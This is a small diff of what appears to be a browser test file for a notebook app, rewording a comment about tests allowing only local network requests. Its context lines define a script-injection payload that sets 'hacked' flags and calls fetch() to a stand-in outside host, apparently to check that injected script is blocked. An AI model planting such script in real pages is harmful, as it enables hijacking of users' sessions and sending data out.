@@ -5,7 +5,7 @@ import { expect, test } from '../fixtures.ts';
 import { addPage, answered, readySource, startOver } from '../notebook.ts';
 import { modelSettings, sourcesWindow } from '../shared-windows.ts';
 
-// Every test watches the network: nothing but this machine may be asked for anything (see `onlyLoopback`).
+// Every test watches the network: only this machine may receive requests (see `onlyLoopback`).
 
 const away = 'http://collector.invalid';
 const script = '<script>top.hacked = 1; hacked = 1; fetch("' + away + '/fetched")</script>';
